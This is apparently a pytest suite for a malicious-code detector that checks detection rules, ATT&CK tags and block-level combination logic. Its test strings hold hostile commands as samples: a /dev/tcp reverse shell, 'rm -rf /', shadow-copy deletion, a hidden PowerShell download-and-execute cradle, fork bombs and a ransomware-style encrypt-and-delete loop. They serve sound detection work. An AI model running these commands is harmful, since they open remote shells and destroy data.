"""Every malicious-code rule against its annotated fixture, line by line; the rule schema (ATT&CK ids);
the engine's combination logic and cross-language reach; and the docs table being current.

A ``ruleid: <id>`` line must be flagged by that rule, an ``ok: <id>`` line must not, and the rule
must flag nothing else in its fixture. Fixtures may hold several code blocks (``=== block ===``):
a combination rule (``requires``) counts its signals per block.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest
import yaml

from auditor.analyzers.fixtures import EXTENSIONS, parse_annotations
from auditor.analyzers.malicious import (
    FAMILIES,
    MaliciousAnalyzer,
    MaliciousRule,
    coverage_markdown,
    fixture_blocks,
    load_malicious_rules,
    load_rule_file,
)
from auditor.analyzers.rulepack import compile_line_regex
from auditor.errors import InputError
from auditor.paths import RULES_DIR
from auditor.types import CodeBlock, Generation

MALICIOUS = RULES_DIR / "malicious"
RULE_FILES = sorted(MALICIOUS.glob("*/*.yaml"))
FIXTURE_EXTENSIONS = {**EXTENSIONS, "any": ("txt",), "powershell": ("ps1",)}
DOC = Path(__file__).resolve().parents[2] / "docs" / "malicious.md"
TABLE = re.compile(r"<!-- rules:begin -->\n(.*?)<!-- rules:end -->", re.S)


@pytest.fixture(scope="module")
def analyzer() -> MaliciousAnalyzer:
    return MaliciousAnalyzer(MALICIOUS)


def _fixture(rule_file: Path) -> Path:
    for ext in FIXTURE_EXTENSIONS.get(rule_file.parent.name, ()):
        candidate = rule_file.with_suffix("." + ext)
        if candidate.is_file():
            return candidate
    raise AssertionError(f"{rule_file}: no fixture beside it ({rule_file.stem}.<ext>)")


def _blocks(rule_file: Path, text: str) -> tuple[CodeBlock, ...]:
    folder = rule_file.parent.name
    return fixture_blocks(text, None if folder == "any" else folder)


def scan(analyzer: MaliciousAnalyzer, code: str, language: str | None) -> set[tuple[str, int]]:
    gen = Generation(attempt_id="t", text=code, code_blocks=(CodeBlock(language=language, code=code),))
    (result,) = analyzer.analyze([gen])
    assert result.status == "ok", result.error
    return {(f.rule_id, f.line) for f in result.findings}


def test_rule_pack_covers_the_languages() -> None:
    folders = {p.parent.name for p in RULE_FILES}
    wanted = {"any", "shell", "powershell", "python", "javascript", "c", "csharp", "go", "ruby", "php"}
    assert wanted <= folders, f"missing rule folders: {sorted(wanted - folders)}"


@pytest.mark.parametrize("rule_file", RULE_FILES, ids=lambda p: p.stem)
def test_fixture_lines(rule_file: Path, analyzer: MaliciousAnalyzer) -> None:
    rule_id = rule_file.stem
    fixture = _fixture(rule_file)
    text = fixture.read_text(encoding="utf-8")
    blocks = _blocks(rule_file, text)
    (result,) = analyzer.analyze([Generation(attempt_id=rule_id, text=text, code_blocks=blocks)])
    assert result.status == "ok", f"{rule_id}: {fixture}: status {result.status}: {result.error}"

    rule = next(r for r in analyzer.rules if r.id == rule_id)
    mine = [f for f in result.findings if f.rule_id == rule_id]
    assert all(f.tags == rule.tags and f.analyzer == "malicious" for f in mine), f"{rule_id}: wrong tags"
    flagged = {blocks[f.block_index].start_line + f.line - 1 for f in mine}
    problems = line_problems(rule_id, fixture, text, flagged)
    assert not problems, "\n".join(problems)


def line_problems(rule_id: str, fixture: Path, text: str, flagged: set[int]) -> list[str]:
    """Every annotated line of ``text`` that ``flagged`` (file lines) contradicts, and every
    flagged line without a ``ruleid:`` annotation, named by rule, file and line."""
    lines = text.splitlines()
    expectations = [e for e in parse_annotations(text) if e.rule_id == rule_id and not e.todo]
    problems: list[str] = []
    for e in expectations:
        where = f"{rule_id}: {fixture}:{e.line}"
        if e.flagged and e.line not in flagged:
            problems.append(f"{where} should be flagged but was not: {lines[e.line - 1].strip()}")
        if not e.flagged and e.line in flagged:
            problems.append(f"{where} is marked ok but was flagged: {lines[e.line - 1].strip()}")
    for line in sorted(flagged - {e.line for e in expectations if e.flagged}):
        text_of_line = lines[line - 1].strip()
        problems.append(f"{rule_id}: {fixture}:{line} flagged without a ruleid annotation: {text_of_line}")
    return problems


@pytest.mark.parametrize("rule_file", RULE_FILES, ids=lambda p: p.stem)
def test_rule_schema(rule_file: Path) -> None:
    raw = yaml.safe_load(rule_file.read_text(encoding="utf-8"))
    assert isinstance(raw, dict) and "rules" not in raw, f"{rule_file}: one rule per file, as a mapping"
    rule = load_rule_file(rule_file, MaliciousRule)
    attack = rule.metadata.attack
    assert re.fullmatch(r"T\d{4}(?:\.\d{3})?", attack.technique), f"{rule_file}: {attack.technique!r}"
    assert re.fullmatch(r"TA\d{4}", attack.tactic), f"{rule_file}: tactic {attack.tactic!r}"
    assert attack.url in rule.metadata.references, f"{rule_file}: references must link {attack.url}"
    assert rule.metadata.cwe_id == 506, f"{rule_file}: malicious rules use CWE-506"
    assert rule.family in FAMILIES
    assert rule.message.strip().endswith("."), f"{rule_file}: message should be a sentence"

    fixture = _fixture(rule_file)
    text = fixture.read_text(encoding="utf-8")
    expectations = [e for e in parse_annotations(text) if e.rule_id == rule.id and not e.todo]
    bad = sum(e.flagged for e in expectations)
    ok = len(expectations) - bad
    assert bad >= 1, f"{fixture}: needs at least one ruleid: {rule.id} line"
    assert ok >= bad, f"{fixture}: {ok} ok: lines for {bad} ruleid: lines; add benign look-alikes"


COMBINED = [p for p in RULE_FILES if "\nrequires:" in p.read_text(encoding="utf-8")]


@pytest.mark.parametrize("rule_file", COMBINED, ids=lambda p: p.stem)
def test_combination_rules_prove_their_signals_matter(rule_file: Path) -> None:
    """Some ok: line matches the anchor pattern alone: it stays clean only because a signal is missing."""
    rule = load_rule_file(rule_file, MaliciousRule)
    assert rule.requires and rule.regex is not None
    anchor = compile_line_regex(rule.regex.pattern)
    text = _fixture(rule_file).read_text(encoding="utf-8")
    lines = text.splitlines()
    oks = [e for e in parse_annotations(text) if e.rule_id == rule.id and not e.flagged]
    assert any(anchor.search(lines[e.line - 1]) for e in oks), f"{rule_file}: no ok: line lacks just a signal"
    assert len(_blocks(rule_file, text)) >= 2, f"{rule_file}: put the look-alike in its own block"


def test_fixture_annotations_name_existing_rules() -> None:
    known = {p.stem for p in RULE_FILES}
    unknown = [
        f"{_fixture(p)}:{e.line}: unknown rule id {e.rule_id!r}"
        for p in RULE_FILES
        for e in parse_annotations(_fixture(p).read_text(encoding="utf-8"))
        if e.rule_id not in known
    ]
    assert not unknown, "\n".join(unknown)


def test_any_rules_reach_strings_of_every_language(analyzer: MaliciousAnalyzer) -> None:
    python = 'import os\nos.system("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")\n'
    assert ("sh-reverse-shell-dev-tcp", 2) in scan(analyzer, python, "python")
    js = 'const { execSync } = require("child_process");\nexecSync("rm -rf / --no-preserve-root");\n'
    assert ("sh-rm-rf-root", 2) in scan(analyzer, js, "javascript")
    c = '#include <stdlib.h>\nint main(void) { return system("vssadmin delete shadows /all /quiet"); }\n'
    assert ("ps-shadow-copy-delete", 2) in scan(analyzer, c, "c")
    unknown = (
        'Shell.Run "powershell -nop -w hidden -c IEX '
        "(New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')\""
    )
    found = scan(analyzer, unknown, "vba")
    assert ("ps-download-cradle-untrusted", 1) in found and ("ps-hidden-window-execution", 1) in found


def test_language_rules_stay_in_their_language(analyzer: MaliciousAnalyzer) -> None:
    code = "import os\nwhile True:\n    os.fork()\n"
    assert ("py-fork-bomb", 3) in scan(analyzer, code, "py")
    assert not any(rule == "py-fork-bomb" for rule, _ in scan(analyzer, code, "ruby"))


def test_requires_counts_signals_per_block_not_per_response(analyzer: MaliciousAnalyzer) -> None:
    encrypt = "for root, _, files in os.walk(home):\n    for f in files:\n        d = fernet.encrypt(f)\n"
    delete = "os.remove(path)\n"
    together = Generation(attempt_id="a", text="", code_blocks=(CodeBlock("python", encrypt + delete),))
    apart = Generation(
        attempt_id="b", text="", code_blocks=(CodeBlock("python", encrypt), CodeBlock("python", delete))
    )
    first, second = analyzer.analyze([together, apart])
    assert [(f.rule_id, f.line) for f in first.findings] == [("py-ransomware", 3)]
    assert [f for f in second.findings if f.rule_id == "py-ransomware"] == []


def test_findings_carry_attack_tags_and_block_positions(analyzer: MaliciousAnalyzer) -> None:
    blocks = (CodeBlock("python", "print('hello')"), CodeBlock("shell", "echo ok\n:(){ :|:& };:"))
    (result,) = analyzer.analyze([Generation(attempt_id="x", text="", code_blocks=blocks)])
    (finding,) = result.findings
    where = (finding.rule_id, finding.block_index, finding.line, finding.attempt_id)
    assert where == ("sh-fork-bomb", 1, 2, "x")
    assert finding.tags == ("attack.technique:T1499", "attack.tactic:TA0040", "malicious.family:fork-bomb")
    assert finding.cwe == 506 and finding.snippet == ":(){ :|:& };:"


def test_sub_technique_tags_include_the_parent(analyzer: MaliciousAnalyzer) -> None:
    rule = next(r for r in analyzer.rules if r.id == "sh-reverse-shell-dev-tcp")
    assert rule.tags[:3] == ("attack.technique:T1059.004", "attack.technique:T1059", "attack.tactic:TA0002")


def test_no_code_is_skipped_and_hostile_input_returns(analyzer: MaliciousAnalyzer) -> None:
    (empty,) = analyzer.analyze([Generation(attempt_id="e", text="I can't help with that.")])
    assert empty.status == "skipped" and not empty.findings
    junk = ("\ud800\x00" + "(" * 200_000 + ":(){ :|:& };:" * 3 + "\r\n" + "a" * 500_000)
    (result,) = analyzer.analyze([Generation("j", "", code_blocks=(CodeBlock("shell", junk),))])
    assert result.status == "ok" and {f.rule_id for f in result.findings} == {"sh-fork-bomb"}


def test_bad_rule_files_are_rejected_with_the_file_named(tmp_path: Path) -> None:
    good = (MALICIOUS / "shell" / "sh-fork-bomb.yaml").read_text(encoding="utf-8")
    folder = tmp_path / "shell"
    folder.mkdir()
    bad_technique = good.replace("technique: T1499", "technique: 1499")
    (folder / "sh-fork-bomb.yaml").write_text(bad_technique)
    with pytest.raises(InputError, match=r"sh-fork-bomb\.yaml.*technique"):
        load_malicious_rules(tmp_path)
    (folder / "sh-fork-bomb.yaml").write_text(good.replace("[fork-bomb]", "[mischief]"))
    with pytest.raises(InputError, match="subcategory"):
        load_malicious_rules(tmp_path)
    (folder / "sh-fork-bomb.yaml").write_text(good.replace("regex:", "requires: ['(a']\nregex:"))
    with pytest.raises(InputError, match="requires"):
        load_malicious_rules(tmp_path)


def test_docs_table_is_current() -> None:
    match = TABLE.search(DOC.read_text(encoding="utf-8"))
    assert match, f"{DOC}: no <!-- rules:begin --> ... <!-- rules:end --> section"
    expected = coverage_markdown(load_malicious_rules(MALICIOUS))
    assert match.group(1) == expected, f"{DOC} is stale: regenerate the table with coverage_markdown()"
